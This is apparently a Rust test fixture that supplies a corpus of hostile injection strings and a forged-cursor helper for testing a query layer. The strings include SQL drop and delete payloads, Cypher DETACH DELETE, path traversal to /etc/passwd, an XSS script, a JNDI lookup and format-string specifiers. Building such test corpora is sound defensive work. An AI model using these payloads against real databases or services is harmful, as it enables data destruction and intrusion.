//! A corpus of hostile strings for the injection tests: SQL, Cypher, JSON-path, LIKE-pattern,
//! quote and comment tricks, control characters and NUL, unusual Unicode, and very long
//! strings. Each is meant to be thrown into value and identifier positions alike.

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;

/// The hand-written part of the corpus.
const WRITTEN: &[&str] = &[
    // SQL: quote breaking, stacked statements, comments, unions, dollar quoting.
    "' OR '1'='1",
    "'; DROP TABLE products; --",
    "\" OR \"\"=\"",
    "1; DELETE FROM customers",
    ") OR (1=1",
    "' UNION SELECT * FROM customers --",
    "'||(SELECT version())||'",
    "$$; DROP TABLE products; $$",
    "E'\\x27' OR 1=1",
    "\\'; SELECT pg_sleep(5); --",
    "/* comment */ name",
    "name -- comment",
    "name\"; DROP TABLE \"products",
    "name\" IS NOT NULL OR \"id",
    "id) OR 1=1 --",
    "tenant_id",
    "1' ; UPDATE products SET price = 0 WHERE '1'='1",
    "?1",
    "$1",
    // LIKE patterns and escapes.
    "%",
    "_",
    "\\",
    "%' OR name LIKE '%",
    "\\%\\_",
    "*",
    // Cypher: closing the map or pattern, labels, procedures, parameters.
    "}) MATCH (n) DETACH DELETE n //",
    "' }) RETURN n //",
    "`IN_CATEGORY`",
    "IN_CATEGORY]->(x) DETACH DELETE x //",
    "IN_CATEGORY|SUPPLIED_BY",
    "n.name = 'x' OR 1=1",
    "$param",
    "{id: 1}",
    "CALL db.labels()",
    ":Product",
    // JSON paths and filter operators in the wrong place.
    "$.name",
    "record.id",
    "a.b[0]",
    "$and",
    "$or",
    "$where",
    "$gt",
    "../../etc/passwd",
    "{\"$gt\": \"\"}",
    "__proto__",
    // NUL and other control characters.
    "name\0",
    "\0",
    "a\0b' OR 1=1 --",
    "line1\nline2\r\nline3",
    "\t\u{8}\u{1b}[31mred\u{1b}[0m",
    // Single punctuation that ends or starts syntax.
    "\"",
    "'",
    "`",
    ";",
    "--",
    "#",
    "-",
    "--name",
    "",
    " ",
    // Unicode: direction overrides, full-width letters, BOM, emoji, case folding, extremes.
    "\u{202E}desrever",
    "ＳＥＬＥＣＴ ＊",
    "\u{FEFF}bom",
    "🦀 crab 👩‍👩‍👧",
    "ǅ İ ß ﬁ",
    "NAME",
    "name ",
    " name",
    "\u{A0}",
    "\u{10FFFF}",
    "\\u0000",
    // Look-alikes of other JSON types and format strings.
    "1e309",
    "NaN",
    "-1",
    "9223372036854775808",
    "null",
    "true",
    "<script>alert(1)</script>",
    "${jndi:ldap://example.invalid/a}",
    "%s%n%x",
];

/// Every hostile string: `WRITTEN` and three long strings (10,000 letters, 100,000 single
/// quotes, and 20,000 repetitions of a multi-byte character).
pub fn corpus() -> Vec<String> {
    let mut out: Vec<String> = WRITTEN.iter().map(|s| (*s).to_owned()).collect();
    out.push("a".repeat(10_000));
    out.push("'".repeat(100_000));
    out.push("ß".repeat(20_000));
    out
}

/// A List cursor forged around `value`: well-formed base64 of a cursor body for the default
/// sort (by primary key) whose value is `value` instead of an id.
pub fn forged_cursor(value: &str) -> String {
    let body = serde_json::json!({ "s": "id", "v": [value] });
    URL_SAFE_NO_PAD.encode(body.to_string())
}

/// A short label for `value` in assertion messages: the first characters, escaped, and its
/// length.
pub fn label(value: &str) -> String {
    let head: String = value.chars().take(40).flat_map(char::escape_debug).collect();
    format!("\"{head}\" ({} bytes)", value.len())
}
